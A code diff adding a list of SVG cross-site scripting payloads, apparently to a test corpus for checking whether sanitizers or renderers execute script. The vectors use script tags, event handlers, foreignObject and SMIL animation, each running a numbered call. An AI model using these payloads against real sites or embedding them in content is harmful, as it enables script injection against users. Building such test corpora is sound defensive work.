@@ -179,3 +179,20 @@ const documents: Payload[] = [
 export const payloads: readonly string[] = [...scripts, ...handlers, ...attributes, ...addresses, ...documents].map((payload, n) =>
   payload(n),
 );
+
+/** The same as pictures: well-formed SVG that runs what it is given when it is opened by itself. */
+export const svgs: readonly string[] = [
+  (n: number) => `<script>${call(n)}</script>`,
+  (n: number) => `<script type="text/ecmascript"><![CDATA[${call(n)}]]></script>`,
+  (n: number) => `<script xlink:href="data:text/javascript,${call(n)}"/>`,
+  (n: number) => `<g onload="${call(n)}"/>`,
+  (n: number) => `<image href="x:" onerror="${call(n)}"/>`,
+  (n: number) => `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x:" onerror="${call(n)}"/></body></foreignObject>`,
+  (n: number) => `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${call(n)}"/></foreignObject>`,
+  (n: number) => `<set attributeName="onmouseover" to="${call(n)}" onbegin="${call(n)}" begin="0s"/>`,
+  (n: number) => `<animate attributeName="x" dur="1s" begin="0s" onbegin="${call(n)}"/>`,
+  (n: number) => `<style>@import 'x:';</style><rect onload="${call(n)}" width="1" height="1"/>`,
+].map(
+  (inner, n) =>
+    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${call(2000 + n)}">${inner(1000 + n)}</svg>`,
+);
